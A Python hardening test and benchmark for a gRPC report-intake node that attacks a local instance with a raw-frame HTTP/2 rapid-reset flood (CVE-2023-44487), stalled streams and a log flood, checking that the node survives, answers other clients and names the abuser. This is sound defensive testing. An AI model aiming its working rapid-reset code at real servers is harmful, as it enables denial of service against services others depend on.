#!/usr/bin/python3
"""One authenticated peer turned hostile, against a real kuaibao-node over
mTLS on 127.0.0.1, spoken to below gRPC with Debian's python3-h2 framing
(gRPC's own clients cannot send these frames):

  rapid reset   CONNECTIONS connections, each sending STREAMS x (HEADERS of
                a Submit call + RST_STREAM) as fast as TLS carries them
                (HTTP/2 rapid reset, CVE-2023-44487; Debian's gRPC 1.51 has
                no fix of its own)
  stalled       STALLED Submit streams that send half a message and stop
  log flood     reports refused by the hundred from one peer

while another officer (python3-grpcio, stubs from protos/ alone) submits a
report every 0.2 s and the node's RSS is sampled every 0.1 s.

  hostile_peer.py check NODE PKI SOURCE STUBS WORK
      the ctest (hostile_peer): a small attack; checks what must hold
      whatever the machine's speed: the node lives, the other officer is
      answered during and after it, the abusive peer is named in the log
      and in the metrics and refused for a cool-down, stalled streams are
      ended, refused reports' log lines are limited with a count of what
      was suppressed. No timing is asserted.
  hostile_peer.py bench NODE PKI SOURCE STUBS WORK [CONNECTIONS STREAMS]
      the measurement (default 8 x 20000): prints the other officer's
      answer times and the node's RSS before, during and after, beside the
      goal (tests/hardening/README.md).

tests/hardening/run-hostile-peer.sh generates the stubs and runs this.
"""
import json
import multiprocessing
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import traceback
import urllib.request

import h2.config  # noqa: E402
import h2.connection  # noqa: E402
import hpack  # noqa: E402

mode, node_binary, pki, source, stubs, work = sys.argv[1:7]
sys.path.insert(0, stubs)
sys.path.insert(0, os.path.join(source, "tests", "interop"))

import grpc  # noqa: E402  (after the stubs' path)
from google.protobuf import timestamp_pb2  # noqa: E402
from kuaibao.v1 import report_pb2, service_pb2  # noqa: E402
from kuaibao.v1 import service_pb2_grpc as service_grpc  # noqa: E402
from node_checks import channel as pki_channel  # noqa: E402
from node_checks import check, read, write_node_config  # noqa: E402

COUNTY = "140105000000"
TOWNSHIP = "140105001000"
OFFICER = "client-140105001000-duty-1"  # the one who only wants an answer
ABUSER = "client-140105001000-duty-2"  # the hostile peer
ABUSER_URI = "spiffe://kuaibao/client/140105001000/duty-2"
MAIN_PKI = os.path.join(pki, "main")
STALL_MS = 2000  # the node's stalled_stream_ms in this scenario


# ---- the node ---------------------------------------------------------------

def start_node(extra=""):
    os.makedirs(work, exist_ok=True)
    port_file = os.path.join(work, "port")
    metrics_file = os.path.join(work, "metrics-port")
    for f in (port_file, metrics_file):
        if os.path.exists(f):
            os.remove(f)
    config = os.path.join(work, "node.conf")
    write_node_config(config, COUNTY, work, source, MAIN_PKI, f'''
metrics_address: "127.0.0.1:0"
metrics_port_file: "{metrics_file}"
{extra}''')
    log_path = os.path.join(work, "node.log")
    node = subprocess.Popen([node_binary, "--config", config],
                            stderr=open(log_path, "w"))
    deadline = time.time() + 120
    ports = [0, 0]
    while time.time() < deadline and not all(ports):
        if node.poll() is not None:
            check(False, "the node started (see %s)" % log_path)
        for i, f in enumerate((port_file, metrics_file)):
            try:
                ports[i] = int(read(f).strip() or 0)
            except (OSError, ValueError):
                pass
        time.sleep(0.05)
    check(all(ports), "the node wrote its ports")
    return node, ports[0], ports[1], log_path


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    return 0.0


def eventually(condition, seconds=30):
    """True once condition() holds, polled until seconds have passed."""
    deadline = time.time() + seconds
    while not condition():
        if time.time() > deadline:
            return False
        time.sleep(0.1)
    return True


def metrics(port):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics",
                                timeout=30) as r:
        return r.read().decode()


# ---- below gRPC: raw HTTP/2 over mTLS ----------------------------------------

def tls_socket(port, name):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.load_verify_locations(os.path.join(MAIN_PKI, "ca.pem"))
    ctx.load_cert_chain(os.path.join(MAIN_PKI, name + ".pem"),
                        os.path.join(MAIN_PKI, name + ".key"))
    ctx.set_alpn_protocols(["h2"])
    sock = socket.create_connection(("127.0.0.1", port), timeout=60)
    return ctx.wrap_socket(sock, server_hostname="localhost")


def frame(kind, flags, stream, payload):
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", kind, flags, stream) + payload)


HEADERS, DATA, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 0, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 8


def submit_headers():
    # Literal header fields only (a fresh encoder refers to no dynamic
    # table entry), so the same block may be sent on every stream.
    return hpack.Encoder().encode([
        (":method", "POST"), (":scheme", "https"),
        (":path", "/kuaibao.v1.Intake/Submit"), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers")])


class RawConnection:
    """An HTTP/2 connection whose frames we write ourselves. pump() reads
    what the server sent, answers its SETTINGS and PINGs and notes the
    streams it ended; one thread does all (an SSL socket is not safe to read and
    write from two threads at once)."""

    def __init__(self, port, name):
        self.sock = tls_socket(port, name)
        h2c = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True))
        h2c.initiate_connection()
        self.goaway = False
        self.closed = False
        self.ended = set()  # streams the server ended (trailers or reset)
        self.buf = b""
        # Data sent before the server has finished its side of the TLS 1.3
        # handshake fails it under load ("unexpected record"): wait for the
        # server's first record (its session ticket, or SETTINGS).
        select.select([self.sock], [], [], 30)
        self.sock.sendall(h2c.data_to_send())

    def send(self, data):
        self.sock.sendall(data)
        self.pump(0)

    def pump(self, timeout):
        """Reads what has come, waiting at most `timeout` seconds for it."""
        try:
            while not self.closed:
                if not self.sock.pending():
                    readable, _, _ = select.select([self.sock], [], [],
                                                   timeout)
                    if not readable:
                        return
                self.sock.setblocking(False)
                try:
                    chunk = self.sock.recv(65536)
                except (ssl.SSLWantReadError, BlockingIOError):
                    chunk = None  # a TLS record not yet complete
                finally:
                    self.sock.setblocking(True)
                if chunk == b"":
                    self.closed = True
                elif chunk:
                    self.buf += chunk
                    self._frames()
                timeout = 0
        except (OSError, ssl.SSLError):
            self.closed = True

    def _frames(self):
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                self.sock.sendall(frame(SETTINGS, ACK, 0, b""))
            elif kind == PING and not flags & ACK:
                self.sock.sendall(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                self.goaway = True
            elif kind == RST_STREAM or (kind in (HEADERS, DATA) and
                                        flags & END_STREAM):
                self.ended.add(stream)


def rapid_reset(port, streams, seconds, result):
    """HEADERS + RST_STREAM, `streams` times or for `seconds`, in batches.
    A connection refused before it sent anything is tried again (a loaded
    machine may time out a handshake): up to 5 tries, 1 s apart."""
    block = submit_headers()
    sent = 0
    for attempt in range(5):
        try:
            conn = RawConnection(port, ABUSER)
            start = time.time()
            stream = 1
            while sent < streams and time.time() - start < seconds:
                batch = []
                for _ in range(min(100, streams - sent)):
                    batch.append(frame(HEADERS, END_HEADERS, stream, block))
                    batch.append(frame(RST_STREAM, 0, stream,
                                       struct.pack(">I", CANCEL)))
                    stream += 2
                    sent += 1
                conn.send(b"".join(batch))
                if conn.goaway or conn.closed:
                    break
        except (OSError, ssl.SSLError) as e:
            if sent == 0:
                print(f"rapid reset: connection attempt {attempt + 1} "
                      f"failed: {e!r}", file=sys.stderr)
                time.sleep(1)
                continue
        break
    result.put(sent)


def stalled_streams(port, count):
    """`count` Submit streams, each sending the first 10 bytes of a
    message announced as 1000 bytes long, then nothing. Returns the
    connection (kept open) and the stream ids."""
    conn = RawConnection(port, ABUSER)
    block = submit_headers()
    half = struct.pack(">BI", 0, 1000) + b"\x0a" * 5
    ids = []
    for i in range(count):
        sid = 1 + 2 * i
        conn.send(frame(HEADERS, END_HEADERS, sid, block) +
                  frame(DATA, 0, sid, half))
        ids.append(sid)
    return conn, ids


# ---- the officer who only wants an answer ------------------------------------

def channel(port, name):
    return pki_channel(f"127.0.0.1:{port}", MAIN_PKI, name)


def report(report_id, headline="居民楼燃气泄漏"):
    r = report_pb2.IncidentReport(
        report_id=report_id, event_id="ev-" + report_id,
        kind=report_pb2.REPORT_KIND_INITIAL,
        status=report_pb2.REPORT_STATUS_ACTUAL,
        category=report_pb2.CATEGORY_MAJOR_ACCIDENT,
        grade=report_pb2.GRADE_IV, headline=headline)
    ts = timestamp_pb2.Timestamp()
    ts.FromSeconds(int(time.time()) - 3600)
    r.occurred_at.CopyFrom(ts)
    r.location.region_code = TOWNSHIP
    r.unit.name = "坞城街道办事处"
    return r


class Officer:
    """Submits one report every 0.2 s on a channel of its own and records
    (time sent, seconds to the receipt or None if none came)."""

    started = 0

    def __init__(self, port):
        Officer.started += 1
        self.name = f"officer{Officer.started}"
        self.stub = service_grpc.IntakeStub(channel(port, OFFICER))
        self.answers = []
        self.errors = []
        self.stop = threading.Event()
        self.n = 0
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def submit_one(self):
        self.n += 1
        rid = f"{self.name}-{os.getpid()}-{self.n}"
        sent = time.time()
        try:
            out = list(self.stub.Submit(
                iter([service_pb2.SubmitRequest(report=report(rid))]),
                timeout=60))
            ok = len(out) == 1 and out[0].HasField("receipt")
            if not ok:
                self.errors.append(str(out))
            return sent, (time.time() - sent) if ok else None
        except grpc.RpcError as e:
            self.errors.append(f"{e.code().name}: {e.details()}")
            return sent, None

    def _run(self):
        try:
            while not self.stop.is_set():
                self.answers.append(self.submit_one())
                self.stop.wait(0.2)
        except Exception:  # noqa: BLE001  (shown, then the check fails)
            traceback.print_exc()

    def finish(self):
        self.stop.set()
        self.thread.join(timeout=120)


class RssSampler:
    def __init__(self, pid):
        self.pid = pid
        self.samples = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            try:
                self.samples.append((time.time(), rss_mib(self.pid)))
            except OSError:
                return
            self.stop.wait(0.1)

    def finish(self):
        self.stop.set()
        self.thread.join()


def attack(port, connections, streams, seconds):
    result = multiprocessing.Queue()
    procs = [multiprocessing.Process(target=rapid_reset,
                                     args=(port, streams, seconds, result))
             for _ in range(connections)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=seconds + 120)
        if p.is_alive():
            p.kill()
    sent = 0
    while not result.empty():
        sent += result.get()
    return sent


def percentile(values, q):
    if not values:
        return None
    values = sorted(values)
    return values[min(len(values) - 1, int(q * len(values)))]


def between(answers, t0, t1):
    return [a for s, a in answers if t0 <= s < t1]


def summary(answers, t0, t1):
    window = between(answers, t0, t1)
    ok = [a for a in window if a is not None]
    return {"submitted": len(window), "answered": len(ok),
            "p50_s": percentile(ok, 0.5), "max_s": max(ok) if ok else None}


def rss_between(samples, t0, t1):
    values = [r for t, r in samples if t0 <= t < t1]
    return max(values) if values else None


# ---- the two modes ---------------------------------------------------------

def run_bench(connections, streams):
    node, port, metrics_port, log_path = start_node()
    try:
        officer = Officer(port)
        rss = RssSampler(node.pid)
        time.sleep(3)
        t_attack = time.time()
        sent = attack(port, connections, streams, seconds=120)
        t_end = time.time()
        time.sleep(15)
        t_after = time.time()
        officer.finish()
        rss.finish()
        alive = node.poll() is None
        result = {
            "connections": connections, "streams_per_connection": streams,
            "streams_sent": sent, "attack_s": round(t_end - t_attack, 1),
            "node_alive": alive,
            "before": summary(officer.answers, 0, t_attack),
            "during": summary(officer.answers, t_attack, t_end),
            "after": summary(officer.answers, t_end, t_after),
            "rss_before_mib": rss_between(rss.samples, 0, t_attack),
            "rss_max_mib": rss_between(rss.samples, t_attack, t_after),
            "rss_end_mib": rss.samples[-1][1] if rss.samples else None,
            "abuser_in_log": ABUSER_URI in open(log_path).read(),
        }
        if alive:
            result["abuser_in_metrics"] = ABUSER_URI in metrics(metrics_port)
        print(json.dumps(result, indent=1))
    finally:
        node.terminate()
        node.wait(timeout=60)


def run_check():
    node, port, metrics_port, log_path = start_node(
        f"stalled_stream_ms: {STALL_MS}")
    try:
        officer = Officer(port)
        # Stalled streams first: the rapid reset below puts the abuser in
        # its cool-down, after which it cannot connect at all.
        # 12: within the node's 16 streams per connection.
        conn, ids = stalled_streams(port, 12)
        deadline = time.time() + STALL_MS / 1000.0 + 120
        while time.time() < deadline and not conn.ended >= set(ids):
            conn.pump(0.1)
        check(conn.ended >= set(ids),
              "every stream stalled mid-message is ended by the node "
              f"({len(conn.ended & set(ids))} of {len(ids)})")
        # The peer sees its stream ended (RST) a moment before the node's
        # log line and count: both are waited for, not read once.
        check(eventually(lambda: "stream stalled" in open(log_path).read()),
              "the node logs the stalled streams")
        counted = f"kuaibao_streams_stalled_total {len(ids)}"
        check(eventually(lambda: counted in metrics(metrics_port)),
              "and counts them in its metrics")

        # Refused reports, many: their log lines are limited per peer.
        flood = service_grpc.IntakeStub(channel(port, ABUSER))
        broken = [report(f"flood-{i}", headline="") for i in range(200)]
        out = list(flood.Submit(
            iter(service_pb2.SubmitRequest(report=r) for r in broken),
            timeout=120))
        check(len(out) == 200 and all(a.HasField("rejection") for a in out),
              "200 broken reports get 200 refusals")
        refused_lines = [json.loads(line) for line in open(log_path)
                         if '"report refused"' in line and ABUSER_URI in line]
        check(0 < len(refused_lines) <= 20,
              f"at most 20 of their log lines are written "
              f"({len(refused_lines)})")
        suppressed = [line for line in metrics(metrics_port).splitlines()
                      if line.startswith("kuaibao_log_lines_suppressed_total")]
        check(suppressed and
              float(suppressed[0].split()[1]) >= 200 - len(refused_lines),
              f"the rest are counted as suppressed ({suppressed})")

        # A connection the abuser opens before the attack and uses for a
        # unary call only: the node never saw a stream on it, so it is not
        # cut, and its calls are refused one by one while the peer cools
        # down (the node's gate, before they are queued for the services).
        before = channel(port, ABUSER)
        try:
            service_grpc.QueryStub(before).GetReport(
                service_pb2.GetReportRequest(report_id="none"), timeout=60)
        except grpc.RpcError as e:
            check(e.code() not in (grpc.StatusCode.UNAVAILABLE,
                                   grpc.StatusCode.RESOURCE_EXHAUSTED),
                  f"the abuser's unary call before the attack is answered "
                  f"({e.code().name})")

        # Rapid reset, small: enough to cross the node's limit.
        sent = attack(port, 2, 2000, seconds=120)
        check(sent > 0, f"the attack sent {sent} streams")
        check(node.poll() is None, "the node lives")
        officer.finish()
        check(any(a is not None for s, a in officer.answers),
              "the other officer was answered")
        after = Officer(port)
        time.sleep(1)
        after.finish()
        check(after.answers and all(a is not None for s, a in after.answers),
              "the other officer is answered after the attack "
              f"{after.answers} {after.errors[:3]}")
        log = open(log_path).read()
        check("peer refused for a cool-down" in log and ABUSER_URI in log,
              "the log names the abusive peer")
        text = metrics(metrics_port)
        check(f'kuaibao_peer_cooldown{{peer="{ABUSER_URI}"}} 1' in text,
              "the metrics name the abusive peer")
        try:
            list(service_grpc.IntakeStub(channel(port, ABUSER)).Submit(
                iter([service_pb2.SubmitRequest(report=report("late"))]),
                timeout=60))
            check(False, "the abusive peer is refused during its cool-down")
        except grpc.RpcError as e:
            check(e.code() in (grpc.StatusCode.UNAVAILABLE,
                               grpc.StatusCode.RESOURCE_EXHAUSTED),
                  "the abusive peer is refused during its cool-down "
                  f"({e.code().name})")
        try:
            list(service_grpc.IntakeStub(before).Submit(
                iter([service_pb2.SubmitRequest(report=report("late2"))]),
                timeout=60))
            check(False, "a call on the abuser's older connection is refused")
        except grpc.RpcError as e:
            check(e.code() == grpc.StatusCode.RESOURCE_EXHAUSTED and
                  "refused until" in (e.details() or ""),
                  "a call on the abuser's older connection is refused, "
                  f"saying until when ({e.code().name}: {e.details()})")
        # The suppressed count also reaches the log, with the next line let
        # through a minute later: not waited for here (relay_core_test's
        # LogLimiterTest covers it on a test clock).
    finally:
        node.terminate()
        node.wait(timeout=60)


if mode == "bench":
    args = [int(a) for a in sys.argv[7:9]]
    run_bench(*(args + [8, 20000][len(args):]))
elif mode == "check":
    run_check()
else:
    sys.exit("usage: hostile_peer.py check|bench NODE PKI SOURCE STUBS WORK")
